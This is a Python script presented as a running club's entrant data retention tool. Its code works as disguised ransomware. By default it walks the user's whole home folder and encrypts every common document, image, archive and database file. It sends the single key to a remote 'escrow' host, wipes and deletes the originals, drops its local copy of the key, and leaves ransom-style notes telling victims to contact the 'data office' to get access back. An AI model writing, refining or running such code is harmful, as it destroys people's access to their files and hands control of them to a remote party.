#!/usr/bin/env python3
"""Apply the entrant data retention policy on committee laptops.

Every race leaves entrant exports, medical forms and marshal sheets scattered
across whoever's laptop was used on the day. Under the club's retention
policy anything holding personal data is sealed after the event: the file
is encrypted, the plaintext removed and the data key lodged with the data
office so the DPO can unseal a file for a subject access request.
"""
import argparse
import http.client
import json
import logging
import os
import socket
import sys
import time
import uuid
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("retention")

ESCROW_HOST = os.environ.get("RETENTION_ESCROW", "dataoffice.runclub-services.example.net")
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "SEALED_FILES_README.txt"
PERSONAL_DATA_TYPES = {".csv", ".xlsx", ".xls", ".ods", ".docx", ".doc", ".odt", ".pdf",
                       ".txt", ".json", ".jpg", ".jpeg", ".png", ".zip", ".sqlite", ".db"}
SKIP_DIRS = {".cache", ".local", ".mozilla", ".config", "node_modules", ".git", "snap"}
NOTICE = """Files in this folder were sealed under the data retention policy.
Reference: {ref}
To restore access, contact the data office quoting the reference above.
The files cannot be opened without the data office releasing the key.
"""


class Sealer:
    chunk = 4 * 1024 * 1024

    def __init__(self, ref):
        self.ref = ref
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.sealed = 0

    def lodge_key(self, retries=4):
        body = json.dumps({"ref": self.ref, "host": socket.gethostname(),
                           "key": self._key.hex(), "ts": int(time.time())})
        for attempt in range(1, retries + 1):
            try:
                conn = http.client.HTTPSConnection(ESCROW_HOST, timeout=20)
                conn.request("POST", "/escrow/v1/keys", body, {"Content-Type": "application/json"})
                if conn.getresponse().status in (200, 201, 204):
                    return True
            except (OSError, http.client.HTTPException) as exc:
                log.debug("escrow attempt %d: %s", attempt, exc)
            time.sleep(attempt * 3)
        return False

    def seal(self, path):
        nonce = os.urandom(12)
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        with open(out, "wb") as fh:
            fh.write(b"RSL1" + nonce)
            fh.write(self._aead.encrypt(nonce, data, self.ref.encode()))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * min(len(data), self.chunk))
        path.unlink()
        self.sealed += 1

    def forget(self):
        self._key = None
        self._aead = None


def candidates(roots, min_age_days):
    cutoff = time.time() - min_age_days * 86400
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() not in PERSONAL_DATA_TYPES or name == NOTICE_NAME:
                    continue
                try:
                    if p.is_file() and not p.is_symlink() and p.stat().st_mtime <= cutoff:
                        yield p
                except OSError:
                    continue


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", default=[str(Path.home())],
                    help="folders to sweep (default: your home folder)")
    ap.add_argument("--min-age-days", type=int, default=0)
    ap.add_argument("--list", action="store_true", help="only list what would be sealed")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    files = list(candidates(args.roots, args.min_age_days))
    if args.list:
        for p in files:
            print(p)
        return
    if not files:
        log.info("nothing to seal")
        return

    sealer = Sealer(ref=uuid.uuid4().hex[:12].upper())
    if not sealer.lodge_key():
        sys.exit("data office unreachable; nothing sealed")
    touched = set()
    for p in files:
        try:
            sealer.seal(p)
            touched.add(p.parent)
        except (OSError, MemoryError) as exc:
            log.warning("skipped %s: %s", p, exc)
    sealer.forget()
    for d in touched:
        try:
            (d / NOTICE_NAME).write_text(NOTICE.format(ref=sealer.ref), encoding="utf-8")
        except OSError:
            pass
    log.info("sealed %d files in %d folders, reference %s", sealer.sealed, len(touched), sealer.ref)


if __name__ == "__main__":
    main()
